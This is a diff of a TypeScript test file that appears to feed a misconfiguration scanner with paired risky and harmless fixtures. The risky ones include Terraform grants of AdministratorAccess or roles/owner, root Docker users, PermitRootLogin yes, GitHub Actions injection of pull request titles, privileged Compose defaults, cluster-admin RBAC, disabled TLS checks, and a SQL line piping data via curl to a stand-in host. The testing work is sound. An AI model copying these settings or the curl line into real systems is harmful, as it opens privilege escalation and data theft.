@@ -147,6 +147,8 @@ const STACK = (action: string, more = ''): string =>
 const IAM = (statement: string): string => `{"Version":"2012-10-17","Statement":[${statement}]}`;
 const GET = '{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::a/*"}';
 
+const ROLE = (resource: string): string =>
+  `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: app}\nrules:\n- {apiGroups: [""], resources: ["${resource}"], verbs: [create, get]}\n`;
 const TLS = (value: number): string => `NODE_TLS_REJECT_UNAUTHORIZED=${value}\n`;
 
 /** Other spellings of one value: name → path, text before, text after. */
@@ -238,6 +240,56 @@ const SPELLINGS: readonly (readonly [string, string, string, string])[] = [
     "EXEC('GRANT ALL ON t TO PUBLIC');",
     "COPY t TO PROGRAM 'curl -d @- https://x.example';",
   ].map((sql) => [`a right as ${sql}`, 'db/1.sql', 'SELECT 1;\n', `SELECT 1;\n${sql}\n`] as const),
+  ...[
+    ['toset(["AdministratorAccess"])', 'each.key'],
+    ['{ x = "ReadOnlyAccess", y = "AdministratorAccess" }', 'each.value'],
+    ['{ x = { p = "AdministratorAccess" } }', 'each.value.p'],
+  ].map(
+    ([list = '', name = '']) =>
+      [
+        `a policy for each of ${list}`,
+        'main.tf',
+        '',
+        `resource "aws_iam_role_policy_attachment" "x" {\n  for_each = ${list}\n  role = "ci"\n  policy_arn = "arn:aws:iam::aws:policy/\${${name}}"\n}\n`,
+      ] as const,
+  ),
+  [
+    'a role for each',
+    'iam.tf',
+    '',
+    'resource "google_project_iam_member" "a" {\n  for_each = toset(["roles/viewer", "roles/owner"])\n  project = "p"\n  role = each.value\n  member = "user:a@x.example"\n}\n',
+  ],
+  ...['USER 00', 'ARG U=root\nUSER $U', 'ENV U=root\nUSER ${U}'].map(
+    (user) => [`root as ${user}`, 'Dockerfile', 'FROM node:20\nUSER node\n', `FROM node:20\n${user}\n`] as const,
+  ),
+  ['the first of two settings of SSH', 'sshd_config', 'PermitRootLogin no\n', 'PermitRootLogin yes\nPermitRootLogin no\n'],
+  ['a key in quotes', '.npmrc', 'registry=https://registry.npmjs.org/\n', '"registry" = "http://packages.example/"\n'],
+  ...[
+    'run: echo ${{ env.T }}\n        env: {T: "${{ github.event.pull_request.title }}"}',
+    'run: echo ${{github . event . pull_request . title}}',
+  ].map(
+    (step) =>
+      [
+        `what others write as ${step}`,
+        '.github/workflows/ci.yml',
+        workflow('pull_request'),
+        workflow('pull_request').replace('run: npm test', step),
+      ] as const,
+  ),
+  ...['privileged: ${P:-true}', 'environment: ["POSTGRES_HOST_AUTH_METHOD=${X:-trust}"]'].map(
+    (setting) =>
+      [
+        `a default of Compose as ${setting}`,
+        'compose.yaml',
+        'services:\n  db:\n    image: postgres:16\n',
+        `services:\n  db:\n    image: postgres:16\n    ${setting}\n`,
+      ] as const,
+  ),
+  ...[
+    'rbac:\n  rules:\n    - {apiGroups: ["*"], resources: ["*"], verbs: ["*"]}\n',
+    'extraObjects:\n  - apiVersion: rbac.authorization.k8s.io/v1\n    kind: ClusterRoleBinding\n    metadata: {name: b}\n    roleRef: {kind: ClusterRole, name: cluster-admin, apiGroup: rbac.authorization.k8s.io}\n    subjects: [{kind: ServiceAccount, name: default, namespace: x}]\n',
+  ].map((values) => [`what a chart adds as ${values}`, 'chart/values.yaml', 'image: web\n', `image: web\n${values}`] as const),
+  ['every part of a pod', 'k8s/role.yaml', ROLE('pods'), ROLE('pods/*')],
   ['the last of two variables', '.env', `${TLS(1)}A=b\n`, `${TLS(1)}A=b\n${TLS(0)}`],
   ['the first of two variables', '.env', TLS(1), TLS(0) + TLS(1)],
   ['what the last of two variables hid', '.env', TLS(0) + TLS(1), TLS(0)],
@@ -290,6 +342,26 @@ const HARMLESS: readonly (readonly [string, string, string, string])[] = [
     "SELECT 'GRANT ALL ON t TO PUBLIC';",
     'EXECUTE prepared(1);',
   ].map((sql) => [`no right in ${sql}`, 'db/1.sql', 'SELECT 1;\n', `SELECT 1;\n${sql}\n`] as const),
+  ['the second of two settings of SSH', 'sshd_config', 'PermitRootLogin no\n', 'PermitRootLogin no\nPermitRootLogin yes\n'],
+  ['a user from an argument', 'Dockerfile', 'FROM node:20\nUSER node\n', 'FROM node:20\nARG U=node\nUSER $U\n'],
+  [
+    'a bucket for each',
+    'main.tf',
+    '',
+    'resource "aws_sqs_queue" "q" {\n  for_each = toset(["a", "b"])\n  name = each.key\n  sqs_managed_sse_enabled = true\n}\n',
+  ],
+  [
+    'a number from the event',
+    '.github/workflows/ci.yml',
+    workflow('pull_request'),
+    workflow('pull_request').replace('npm test', 'echo ${{ github . event . pull_request . number }}'),
+  ],
+  [
+    'an address of this machine by default',
+    'compose.yaml',
+    'services:\n  db:\n    image: postgres:16\n',
+    'services:\n  db:\n    image: postgres:16\n    ports: ["${BIND:-127.0.0.1}:5432:5432"]\n',
+  ],
   ['a variable set anew', '.env', 'PORT=80\nA=b\n', 'PORT=80\nA=b\nPORT=1\n'],
   ['a variable set anew, and safer', '.env', TLS(0), TLS(0) + TLS(1)],
   ['a variable set to the same', '.env', 'PORT=80\n', 'PORT=80\nexport PORT=80\n'],
